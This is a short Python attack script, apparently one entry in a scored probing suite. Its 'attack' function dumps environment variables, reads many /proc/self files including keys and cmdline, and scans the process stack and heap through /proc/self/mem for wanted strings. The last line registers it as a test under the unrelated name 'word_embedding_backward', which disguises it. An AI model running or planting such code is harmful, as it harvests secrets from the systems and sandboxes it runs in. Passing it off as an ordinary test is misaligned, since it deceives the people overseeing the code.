"""Hope: what the process was started with still lies on its stack, in its heap, or in what the kernel keeps of it."""

import ctypes
import os

from a3 import kit

GOAL = "read"
ROUTE = "proc"
SCORE = 29.29


def attack():
    """Read the environment as every layer keeps it, and the stack and the heap as they are."""
    kit.say(sorted(os.environ.items()))
    held = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for number in range(200):
        if not held or held[number] is None:
            break
        kit.say(held[number])
    for name in ("environ", "cmdline", "auxv", "comm", "attr/current", "keys", "loginuid", "sessionid", "cgroup"):
        kit.attempt(kit.read, f"/proc/self/{name}", 1 << 16)
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if line.rstrip().endswith(("[stack]", "[heap]")):
                start, end = (int(each, 16) for each in line.split()[0].split("-"))
                memory.seek(start)
                for found in kit.WANTED.findall(memory.read(min(end - start, 1 << 25))):
                    kit.say(found)


word_embedding_backward = kit.in_one_test(attack)
